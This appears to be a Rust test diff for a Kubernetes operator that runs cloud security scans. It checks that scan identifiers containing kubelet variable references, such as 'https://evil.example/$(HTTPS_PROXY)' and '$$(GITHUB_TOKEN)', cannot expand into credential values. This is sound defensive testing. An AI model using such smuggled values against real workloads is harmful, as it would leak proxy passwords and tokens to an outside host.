@@ -270,3 +270,66 @@ fn the_scope_becomes_flags_and_an_empty_list_none() {
          --excluded-service ec2 --region eu-west-1 eu-central-1"
     );
 }
+
+/// What the kubelet makes of an argument or value: `$$` is a dollar, `$(NAME)` the variable, and
+/// a name it does not know stays as it is (Kubernetes, "Define Dependent Environment Variables").
+fn expanded(text: &str, variables: &[(&str, &str)]) -> String {
+    let mut made = String::new();
+    let mut rest = text;
+    while let Some(at) = rest.find('$') {
+        made.push_str(&rest[..at]);
+        rest = &rest[at + 1..];
+        if let Some(after) = rest.strip_prefix('$') {
+            made.push('$');
+            rest = after;
+        } else if let Some((name, after)) = rest
+            .strip_prefix('(')
+            .and_then(|inner| inner.split_once(')'))
+        {
+            match variables.iter().find(|(known, _)| *known == name) {
+                Some((_, value)) => made.push_str(value),
+                None => made.push_str(&format!("$({name})")),
+            }
+            rest = after;
+        } else {
+            made.push('$');
+        }
+    }
+    made + rest
+}
+
+#[test]
+fn a_uid_that_names_a_variable_does_not_carry_its_value_away() {
+    let variables = [
+        ("HTTPS_PROXY", "http://user:hunter2@proxy"),
+        ("GITHUB_TOKEN", "ghp_secret"),
+    ];
+    for uid in [
+        "https://evil.example/$(HTTPS_PROXY)",
+        "https://evil.example/$$(GITHUB_TOKEN)",
+        "https://evil.example/$(HTTPS_PROXY)$$$(GITHUB_TOKEN)$",
+    ] {
+        let run = run(ProviderType::Iac, uid, &Access::default());
+        let given: Vec<_> = run
+            .args
+            .iter()
+            .map(|argument| expanded(argument, &variables))
+            .collect();
+        assert_eq!(given.iter().filter(|argument| *argument == uid).count(), 2);
+        assert!(!given.iter().any(|argument| argument.contains("hunter2")));
+        assert!(!given.iter().any(|argument| argument.contains("ghp_secret")));
+    }
+}
+
+#[test]
+fn values_of_the_secret_still_reach_the_arguments_that_want_them() {
+    let access = by_secret(CredentialsType::Role, &["role_arn", "external_id"]);
+    let run = run(ProviderType::Aws, "123456789012", &access);
+    let variables = [("PROWLER_OPERATOR_ROLE_ARN", "arn:aws:iam::1:role/r")];
+    let role = run
+        .args
+        .iter()
+        .find(|argument| argument.starts_with("--role="))
+        .unwrap();
+    assert_eq!(expanded(role, &variables), "--role=arn:aws:iam::1:role/r");
+}
